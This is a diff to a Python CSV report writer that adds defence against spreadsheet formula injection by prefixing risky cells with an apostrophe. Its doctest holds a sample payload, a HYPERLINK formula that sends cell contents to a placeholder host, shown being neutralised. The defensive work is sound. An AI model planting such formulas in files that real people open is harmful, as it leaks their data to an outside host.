@@ -2,7 +2,10 @@
 
 Cells are written as they are: a CSV reader gets the exact text back, line breaks included,
 and one row per row (no name can forge one). A name that was not UTF-8 shows its bytes as
-visible escapes (`\\xff`): a CSV file is UTF-8 text.
+visible escapes (`\\xff`): a CSV file is UTF-8 text. One exception: a text cell that a
+spreadsheet would run as a formula (it starts with `=`, `+`, `-`, `@`, a tab or a carriage
+return: OWASP's CSV injection list) gets a leading `'`, so that opening findings.csv of a
+hostile image in a spreadsheet runs nothing; report.json keeps the exact text.
 """
 
 from __future__ import annotations
@@ -63,12 +66,27 @@ INVENTORY_COLUMNS = (
 )
 
 
+_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def inert(cell: Any) -> Any:
+    """A text cell a spreadsheet will not take for a formula.
+
+    >>> print(inert('=HYPERLINK("http://x.example/?"&A1)'), inert("/etc/passwd"), inert(-1))
+    '=HYPERLINK("http://x.example/?"&A1) /etc/passwd -1
+    """
+    if isinstance(cell, str) and cell.startswith(_FORMULA_STARTS):
+        return "'" + cell
+    return cell
+
+
 def _csv(columns: tuple[str, ...], rows: list[list[Any]]) -> bytes:
     out = io.StringIO(newline="")
     plain = csv.writer(out, lineterminator="\n")
     quoted = csv.writer(out, lineterminator="\n", quoting=csv.QUOTE_ALL)
     plain.writerow(columns)
-    for row in rows:
+    for raw in rows:
+        row = [inert(cell) for cell in raw]
         # The csv module quotes a cell holding "\n" but not one holding a lone "\r", which CSV
         # readers also take for the end of a row: a name could forge rows. Quote such rows.
         carriage = any(isinstance(cell, str) and "\r" in cell for cell in row)
